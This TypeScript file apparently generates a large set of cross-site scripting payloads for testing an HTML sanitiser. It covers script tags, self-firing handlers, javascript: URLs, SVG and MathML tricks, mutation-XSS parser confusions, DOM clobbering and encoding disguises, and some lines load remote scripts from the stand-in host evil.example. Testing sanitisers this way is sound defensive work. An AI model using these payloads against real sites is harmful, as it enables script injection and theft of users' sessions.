/**
 * Generates markup that tries to run a script: every way to run a script is combined with every disguise. Each
 * payload calls `__hit` with its number, so that a test knows which payloads ran.
 */

type Make = (call: string) => string

/**
 * Encodings that a lenient browser still reads as an event handler or a script address, but that a sanitiser
 * may not recognise.
 */
const entities = (text: string): string => [...text].map((mark) => `&#${mark.codePointAt(0)};`).join('')
const hexEntities = (text: string): string =>
  [...text].map((mark) => `&#x${(mark.codePointAt(0) ?? 0).toString(16)};`).join('')
const percent = (text: string): string =>
  [...text].map((mark) => `%${(mark.codePointAt(0) ?? 0).toString(16).padStart(2, '0')}`).join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const mixed = (text: string): string =>
  [...text].map((mark, at) => (at % 2 ? mark.toUpperCase() : mark.toLowerCase())).join('')

const SCRIPTS: readonly Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<${mixed('script')}>${call}</${mixed('script')}>`,
  (call) => `<script type="module">${call}</script>`,
  (call) => `<script type="text/javascript" async>${call}</script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script src="data:text/javascript,${percent(call)}"></script>`,
  (call) => `<script src="data:text/javascript;base64,${base64(call)}"></script>`,
  () => '<script src="https://evil.example/hit.js"></script>',
  () => '<script src=//evil.example/hit.js></script>',
  (call) => `<p>x<script>${call}</script>y</p>`,
  (call) => `<ul><li><script>${call}</script></li></ul>`,
  (call) => `<a href="#/pages/x"><script>${call}</script></a>`,
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `<!-- --!><script>${call}</script> -->`,
  (call) => `<![CDATA[><script>${call}</script>]]>`,
  (call) => `<?xml ?><script>${call}</script>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<div><template shadowrootmode="open"><script>${call}</script></template></div>`,
  (call) => `<xss><script>${call}</script></xss>`,
  (call) => `</p><script>${call}</script><p>`,
  (call) => `<script>${call}`,
]

/** Event handlers that a browser fires without a user action. */
const SELF_FIRING: readonly Make[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src="/h5/icon.svg" onload="${call}">`,
  (call) => `<IMG SRC=x ONERROR="${call}">`,
  (call) => `<img/src=x/onerror=${call}//>`,
  (call) => `<img src=x\nonerror\n=\n"${call}">`,
  (call) => `<img src=x onerror="${entities(call)}">`,
  (call) => `<img src=x onerror="${hexEntities(call)}">`,
  (call) => `<img src=x onerror='${call}' alt="x">`,
  (call) => `<img alt="x" src=x onerror=${call} onerror=x>`,
  (call) => `<img src="x" srcset="x 1x" onerror="${call}">`,
  (call) => `<image src=x onerror=${call}>`,
  (call) => `<img src=x:x onerror=${call}>`,
  (call) => `<picture><source srcset=x><img src=x onerror=${call}></picture>`,
  (call) => `<body onload=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<video><source src=x onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (call) => `<embed src=x onerror=${call}>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<script src=x onerror=${call}></script>`,
  (call) => `<style onload=${call}>p{}</style>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<a href="#" autofocus onfocus=${call} tabindex=1>x</a>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<style>@keyframes hit{}</style><p style="animation-name:hit" onanimationstart="${call}">x</p>`,
  (call) => `<p style="transition:color 1ms" ontransitionend="${call}">x</p>`,
]

const EVENTS =
  'onclick onmouseover onpointerenter onfocus onblur onkeydown oncopy onscroll onwheel ontouchstart oncontextmenu onanimationend onbeforetoggle oncut ondragstart oninput'.split(
    ' ',
  )
/** Elements that the sanitiser's allow list keeps, so that only their event handlers have to be removed. */
const HOSTS = ['p', 'a href="#/pages/x"', 'img src="/h5/icon.svg"', 'td', 'li', 'h2', 'b', 'ol']
const HANDLERS: readonly Make[] = EVENTS.flatMap((event, at) =>
  HOSTS.map((host, nth): Make => {
    const spelled = [event, event.toUpperCase(), mixed(event)][(at + nth) % 3]
    return [
      (call: string) => `<${host} ${spelled}="${call}">x`,
      (call: string) => `<${host}/${spelled}=${call}>x`,
      (call: string) => `<${host} ${spelled}\t=\n'${entities(call)}'>x`,
    ][(at + 2 * nth) % 3] as Make
  }),
)

const SCHEMES: readonly Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `java&#9;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `${entities('javascript:')}${call}`,
  (call) => `javascript://https://a.example/%0a${call}`,
  (call) => `data:text/html,&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `data:text/html;base64,${base64(`<script>${call}</script>`)}`,
]
const CARRIERS: readonly ((address: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<A HREF='${url}' target=_self>x</A>`,
  (url) => `<map name=m><area href="${url}" shape=default></map>`,
  (url) => `<svg><a href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) =>
    `<svg><a><animate attributeName=href values="${url}" begin=0s fill=freeze /><text y=9>x</text></a></svg>`,
  (url) => `<svg><a><set attributeName=href to="${url}" /><text y=9>x</text></a></svg>`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<math><mtext href="${url}">x</mtext></math>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<form><input type=submit formaction="${url}"></form>`,
  (url) => `<img src="${url}">`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<video src="${url}" poster="${url}"></video>`,
  (url) => `<table background="${url}"><td background="${url}">x</table>`,
  (url) => `<base href="${url}">`,
  (url) => `<link rel=import href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<svg><use href="${url}#x" /></svg>`,
  (url) => `<svg><image href="${url}" /></svg>`,
]
const ADDRESSES: readonly Make[] = CARRIERS.flatMap((carrier, at) =>
  SCHEMES.filter((_, nth) => (at + nth) % 2 === 0 || at < 2).map(
    (scheme): Make =>
      (call) =>
        carrier(scheme(call)),
  ),
)

const FOREIGN: readonly Make[] = [
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:,${percent(call)}" /></svg>`,
  (call) => `<svg><script>&#${(call.codePointAt(0) ?? 0).toString()};${call.slice(1)}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin="${call}" attributeName=x to=y /></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><desc><img src=x onerror=${call}></desc></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><image href=x onerror=${call} /></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<svg></p><style><a title="</style><img src=x onerror=${call}>">`,
  (call) => `<svg><p><style><img src="</style><img src=x onerror=${call}//">`,
  (call) => `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
  (call) => `<math><mi><img src=x onerror=${call}></mi></math>`,
  (call) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  (call) => `<math><mtext><script>${call}</script></mtext></math>`,
  (call) => `<math><maction actiontype=statusline xlink:href="javascript:${call}">x</maction></math>`,
]

/** Markup that the sanitiser's parser reads differently from the parser of the page. */
const MUTATIONS: readonly Make[] = [
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<textarea><p title="</textarea><img src=x onerror=${call}>">`,
  (call) => `<title><p title="</title><img src=x onerror=${call}>">`,
  (call) => `<style><p title="</style><img src=x onerror=${call}>">`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<noembed><p title="</noembed><img src=x onerror=${call}>">`,
  (call) => `<noframes><p title="</noframes><img src=x onerror=${call}>">`,
  (call) => `<iframe><p title="</iframe><img src=x onerror=${call}>">`,
  (call) => `<!--<img src="--><img src=x onerror=${call}//">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${call}">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${call} src=1>">`,
  (call) => `<svg></p><textarea><title><style></textarea><img src=x onerror=${call}></style></title></svg>`,
  (call) => `<select><iframe></select><img src=x onerror=${call}>`,
  (call) => `<select><template><img src=x onerror=${call}></template></select>`,
  (call) =>
    `<table><caption><svg><title><table><style><a title="</style></table><img src=x onerror=${call}>">`,
  (call) => `<p><a href="#/pages/x" <img src=x onerror=${call}>>`,
  (call) => `<img alt="\`><script>${call}</script>">`,
  (call) => `<img alt='"><img src=x onerror=${call}>' src="/h5/icon.svg">`,
  (call) => `<img alt="&quot;><img src=x onerror=${call}>" src="/h5/icon.svg">`,
  (call) => `<a href="#/pages/x&quot; onfocus=&quot;${call}&quot; autofocus tabindex=1 x=&quot;">x</a>`,
  (call) => `<a href='#/pages/x" onfocus="${call}" autofocus tabindex="1'>x</a>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `\u003cscript\u003e${call}\u003c/script\u003e`,
  (call) => `<img src=x onerror=${call} <p`,
  (call) => `<p title=">"><script>${call}</script>`,
  (call) => `<b><i><p></b><img src=x onerror=${call}></i>`,
  (call) => `${'<b>'.repeat(300)}<img src=x onerror=${call}>`,
  (call) => `${'<table><tr><td>'.repeat(40)}<svg onload=${call}>`,
]

const FRAMES: readonly Make[] = [
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="<img src=x onerror=${call}>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
  (call) => `<iframe srcdoc="${entities(`<script>${call}</script>`)}"></iframe>`,
  (call) =>
    `<iframe srcdoc="<script>parent.${call}</script>" sandbox="allow-scripts allow-same-origin"></iframe>`,
  (call) => `<IFRAME SRCDOC='<svg onload=${call}>'></IFRAME>`,
  (call) => `<iframe src="about:blank" srcdoc="<body onload=${call}>"></iframe>`,
  (call) => `<iframe src="https://evil.example/frame" onload=${call}></iframe>`,
  (call) => `<fencedframe srcdoc="<script>${call}</script>"></fencedframe>`,
  (call) => `<portal src="javascript:${call}"></portal>`,
  (call) => `<object type="text/html" data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<embed type="text/html" src="data:text/html,<script>${call}</script>">`,
]

/**
 * Names of elements that shadow properties which a page or a sanitiser reads (DOM clobbering), followed by an
 * event handler.
 */
const CLOBBERS: readonly Make[] = [
  ...['attributes', 'nodeName', 'parentNode', 'childNodes', 'removeChild', 'nodeType', 'innerHTML'],
  ...[
    'tagName',
    'textContent',
    'namespaceURI',
    'setAttribute',
    'removeAttribute',
    'firstChild',
    'ownerDocument',
  ],
].map(
  (name): Make =>
    (call) =>
      `<form onclick="${call}"><input name="${name}"><img src=x onerror=${call}></form>`,
)
const DOCUMENT_CLOBBERS: readonly Make[] = [
  (call) => `<img name=currentScript><img name=cookie><img src=x onerror=${call}>`,
  (call) => `<form id=document></form><form name=body></form><svg onload=${call}>`,
  (call) => `<a id=DOMPurify></a><a id=DOMPurify name=sanitize href="javascript:${call}">x</a>`,
  (call) => `<form id=trustedTypes><input name=createPolicy></form><img src=x onerror=${call}>`,
  (call) =>
    `<iframe name=self srcdoc="<a id=x href='javascript:${call}'></a><script>${call}</script>"></iframe>`,
]

const PAGE: readonly Make[] = [
  (call) => `<base href="https://evil.example/"><script src="hit.js"></script><img src=x onerror=${call}>`,
  () => '<base href="https://evil.example/"><img src="a.png">',
  () => '<link rel=stylesheet href="https://evil.example/a.css">',
  () => '<style>@import "https://evil.example/a.css";</style>',
  () => '<p style="background:url(https://evil.example/a.png)">x</p>',
  () => '<img src="https://evil.example/a.png">',
  () => '<img srcset="https://evil.example/a.png 1x">',
  () => '<video autoplay src="https://evil.example/a.mp4" poster="https://evil.example/a.png"></video>',
  () => '<iframe src="https://evil.example/frame"></iframe>',
  () => '<object data="https://evil.example/frame"></object>',
  () => '<link rel=preload as=script href="https://evil.example/hit.js">',
  () => '<link rel=dns-prefetch href="//evil.example">',
  (call) => `<meta http-equiv=Content-Security-Policy content="script-src *"><img src=x onerror=${call}>`,
  (call) => `<form id=f action="javascript:${call}"></form><button form=f>x</button>`,
  (call) => `<isindex type=image src=1 onerror=${call}>`,
  (call) => `<keygen autofocus onfocus=${call}>`,
  (call) => `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  (call) => `<p is="x-y" onclick="${call}">x</p>`,
  (call) => `<x-y onclick="${call}" tabindex=1 onfocus="${call}" autofocus>x</x-y>`,
  (call) =>
    `<button popovertarget=p onclick="${call}">x</button><div id=p popover onbeforetoggle="${call}">x</div>`,
]

/** Variants of a payload that a careless filter would let pass. */
const DISGUISES: readonly ((html: string) => string)[] = [
  (html) => html.replaceAll('<', '<\u0000'),
  (html) => html.replace(/on(?=[a-z]+\s*=)/gi, 'on\u0000'),
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => html.replaceAll(' ', '\u000c'),
]

export interface Payload {
  readonly number: number
  readonly html: string
}

/** All payloads without duplicates, numbered. */
export function payloads(): readonly Payload[] {
  const makers = [
    ...[
      SCRIPTS,
      SELF_FIRING,
      HANDLERS,
      ADDRESSES,
      FOREIGN,
      MUTATIONS,
      FRAMES,
      CLOBBERS,
      DOCUMENT_CLOBBERS,
      PAGE,
    ],
  ].flat()
  const disguised = [...SELF_FIRING, ...FOREIGN, ...MUTATIONS].flatMap((make) =>
    DISGUISES.map(
      (disguise): Make =>
        (call) =>
          disguise(make(call)),
    ),
  )
  return [...makers, ...disguised].map((make, number) => ({ number, html: make(`__hit(${number})`) }))
}
